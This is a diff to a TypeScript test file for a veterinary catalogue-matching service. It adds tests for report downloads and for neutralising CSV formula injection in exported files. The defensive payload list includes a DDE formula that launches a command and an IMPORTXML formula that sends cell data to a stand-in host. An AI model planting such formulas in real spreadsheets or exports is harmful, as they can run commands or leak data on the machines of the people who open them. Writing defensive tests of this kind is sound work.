@@ -1,6 +1,11 @@
+import { writeFile } from 'node:fs/promises';
+import path from 'node:path';
 import { generateReport } from '@fetlock/contract/reports';
 import { editRow } from '@fetlock/contract/row-edits';
+import { readResult } from '@fetlock/contract/results';
 import { parseRecord } from '@fetlock/formats/parse-record';
+import { readPriceList } from '@fetlock/formats/read-price-list';
+import { unzip } from '@fetlock/formats/testing/unzip';
 import { pino } from 'pino';
 import { afterAll, beforeAll, describe, expect, test } from 'vitest';
 import { type MatchedList, type Matching, givenMatching } from '../testing/given-matching.ts';
@@ -11,10 +16,10 @@ import { writeReportHandler } from './write-report.job.ts';
 let api: TestApi;
 let matching: Matching;
 
-const catalogue = `code,name,category,subcategory,variation,variation_name,strength,form,size,gl_code
-1001,Carprofen chewable tablet,drug,NSAID,a,"75 mg, 60 count",75 mg,chewable tablet,60,4100
-1002,Carprofen injection,drug,NSAID,a,50 mg/mL,50 mg/mL,injection,20 mL,4200
-2001,Wellness examination,procedure,Exam,a,each,,,,5000
+const catalogue = `code,name,category,subcategory,variation,variation_name,strength,form,size,gl_code,vendor,vendor_code
+1001,Carprofen chewable tablet,drug,NSAID,a,"75 mg, 60 count",75 mg,chewable tablet,60,4100,Chewy,100001
+1002,Carprofen injection,drug,NSAID,a,50 mg/mL,50 mg/mL,injection,20 mL,4200,Chewy,100002
+2001,Wellness examination,procedure,Exam,a,each,,,,5000,,
 `;
 const list = `Code,Name,QOH\nC1,carprofen 75mg chew tab 60ct,3\n=S1,"<b>Wellness</b> examination & ""more""",\n`;
 
@@ -118,6 +123,127 @@ describe('internal.html @REPORT-02', () => {
     const { body } = await download('internal', resultId);
     expect(body.includes('1002 · Carprofen injection · 50 mg/mL')).toBe(expected);
     expect(/class="rejected"/.test(body)).toBe(expected);
+  });
+});
+
+describe('input_batch.csv @REPORT-09', () => {
+  const batch = async (resultId: number) => recordsOf((await download('inputBatch', resultId)).body);
+
+  test('has each item as the matcher read it: its fields, and what its name says', async () => {
+    const { resultId } = await matching.match(list);
+    expect(await batch(resultId)).toMatchObject([
+      {
+        orig_order: '1',
+        file: 'list.csv',
+        line: '2',
+        orig_code: 'C1',
+        orig_name: 'carprofen 75mg chew tab 60ct',
+        quantity_on_hand: '3',
+        read_words: expect.stringMatching(/carprofen .*chew/),
+        read_strength: '75mg',
+        read_pack: '60',
+        read_species: '',
+      },
+      { orig_order: '2', line: '3', orig_code: "'=S1" },
+    ]);
+  });
+
+  test('has what other files told of an item, in the order of the result', async () => {
+    const { resultId, rows } = await matching.match({
+      uploads_0: { name: 'list.csv', content: list },
+      sales_histories_0: { name: 'sales.csv', content: 'Code,Name,Last sold,Total sold\nC1,carprofen,2026-01-02,12\n' },
+    });
+    const read = await batch(resultId);
+    expect(read.map(({ orig_name }) => orig_name)).toEqual(rows.map(({ orig_name }) => orig_name));
+    expect(read[0]).toMatchObject({ total_sold: '12', lastsold: '2026-01-02' });
+  });
+});
+
+describe('the input files @REPORT-08', () => {
+  test('one is given as itself, byte for byte, under its own name', async () => {
+    const { resultId } = await matching.match({ uploads_0: { name: 'précios 1.csv', content: list } });
+    const answer = await download('input', resultId);
+    expect(answer.rawPayload).toEqual(Buffer.from(list));
+    expect(answer.headers['content-disposition']).toBe(`attachment; filename="pr_cios 1.csv"; filename*=UTF-8''pr%C3%A9cios%201.csv`);
+  });
+
+  test('several are given in an archive, of which none overwrites another', async () => {
+    const { resultId } = await matching.match({
+      uploads_0: { name: 'list.csv', content: list },
+      uploads_1: { name: 'List.csv', content: 'Code,Name\nC2,rabies vaccine\n' },
+      sales_histories_0: { name: 'list.csv', content: 'Code,Name,Total sold\nC1,carprofen,2\n' },
+    });
+    const { headers, rawPayload } = await download('input', resultId);
+    expect(headers).toMatchObject({
+      'content-type': 'application/zip',
+      'content-disposition': expect.stringContaining('filename="input.zip"'),
+    });
+    expect(await unzip(rawPayload)).toEqual({
+      'list.csv': list,
+      'List (2).csv': 'Code,Name\nC2,rabies vaccine\n',
+      'sales_histories/list.csv': 'Code,Name,Total sold\nC1,carprofen,2\n',
+    });
+  });
+});
+
+describe('chewy_catalog.csv @REPORT-10 @RESULT-23', () => {
+  const kinds = async (id: number) => api.as('staff').call(readResult, { params: { id } });
+
+  test('has the rows whose entry bears the code of Chewy that they bear themselves', async () => {
+    const { resultId } = await matching.match(
+      'Code,Name,Vendor,Vendor code\nA1,carprofen chew tab 75mg 60ct,CHEWY Pharmacy,10-0001\nA2,carprofen injection,MWI,100002\nA3,wellness exam,,\n100002,carprofen injection,,\n',
+    );
+    const rows = recordsOf((await download('CHEWY_CATALOG', resultId)).body);
+    expect(rows).toMatchObject([
+      { chewy_code: '10-0001', fetlock_code: '1001', orig_code: 'A1' },
+      { chewy_code: '100002', fetlock_code: '1002', orig_code: '100002' },
+    ]);
+    expect(await kinds(resultId)).toMatchObject({
+      core_report: 'mapped_core.csv',
+      internal_html: 'internal.html',
+      chewy_catalog: 'chewy_catalog.csv',
+    });
+  });
+
+  test('is not there, and says so, where there are none', async () => {
+    const { resultId } = await matching.match(list);
+    expect((await kinds(resultId)).chewy_catalog).toBeNull();
+    const answer = await download('CHEWY_CATALOG', resultId);
+    expect([answer.statusCode, answer.json()]).toMatchObject([404, { description: expect.stringContaining('Chewy') }]);
+  });
+});
+
+describe('what a spreadsheet would run is marked in what people open, and only there', () => {
+  /** @see OWASP, CSV Injection */
+  const payloads = [
+    '=1+1',
+    '+1+1',
+    '-1+1',
+    '@SUM(1+1)',
+    '=HYPERLINK("http://x","y")',
+    "=cmd|' /C calc'!A0",
+    "'=1+1",
+    '＝1+1',
+    '=IMPORTXML(CONCAT("http://x?",A1),"//a")',
+  ];
+  const hostile = ['Code,Name', ...payloads.map((text, index) => `${index},"${text.replaceAll('"', '""')}"`)].join('\n');
+  const namesIn = async (content: Buffer, type: 'common' | 'fetlock', extension: string) => {
+    const file = path.join(api.dataFolder, `payloads.${extension}`);
+    await writeFile(file, content);
+    return (await readPriceList(file, { type })).records.map(({ values, raw }) => values.name ?? new Map(raw).get('orig_name'));
+  };
+
+  test.each(['core', 'inputBatch'])('%s: each is shown as text, and comes back as it was when it is read again', async (type) => {
+    const { resultId } = await matching.match(hostile);
+    const { rawPayload } = await download(type, resultId);
+    const names = recordsOf(rawPayload.toString()).map(({ orig_name }) => orig_name);
+    expect(names).toEqual(payloads.map((text) => `'${text}`));
+    expect(await namesIn(rawPayload, 'fetlock', 'csv')).toEqual(payloads);
+  });
+
+  test('the input files keep every byte', async () => {
+    const { resultId } = await matching.match(hostile);
+    expect((await download('input', resultId)).body).toBe(hostile);
   });
 });
 
